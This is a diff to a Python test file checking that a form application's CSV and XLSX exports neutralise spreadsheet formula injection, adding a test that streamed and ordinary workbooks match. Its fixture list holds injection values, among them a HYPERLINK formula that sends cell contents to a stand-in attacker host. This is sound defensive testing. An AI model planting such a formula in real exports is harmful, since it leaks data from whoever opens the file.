@@ -13,10 +13,12 @@ from sqlalchemy import select
 from form_worker.accounts.models import AuditEntry
 from form_worker.applications.models import Application
 from form_worker.applications.tables import SENSITIVE_HEADER
-from form_worker.core.downloads import write_csv, write_xlsx
+from form_worker.core.downloads import table_workbook, write_csv, write_xlsx
 from site_builder.clock import local_time
+from site_builder.spreadsheet import workbook_bytes
 from site_builder.spreadsheet.cells import csv_value
 from tests.form_worker.conftest import OPEN_POSITION, StaffClient, csrf_token, drain
+from tests.helpers.workbooks import described
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
 
@@ -49,6 +51,19 @@ def test_xlsx_keeps_every_hostile_value_a_string_cell() -> None:
         assert cell.quotePrefix
     assert sheet.cell(2, 2).data_type == "n"
     assert not sheet.cell(1, 1).quotePrefix
+
+
+def test_the_streamed_workbook_reads_as_the_ordinary_one() -> None:
+    """write_xlsx (write-only mode) gives the workbook table_workbook builds cell by cell."""
+    sheets = [
+        (
+            "报名名单",
+            ["值", "数", "日期", "长文字"],
+            [[v, i, dt.date(2026, 7, 1), "长" * 60] for i, v in enumerate(HOSTILE)],
+        ),
+        ("第二页:1", ["空"], [[None], [3.5], ["普通文字\x01"]]),
+    ]
+    assert described(write_xlsx(sheets)) == described(workbook_bytes(table_workbook(sheets)))
 
 
 def test_times_are_chongqing_time() -> None:
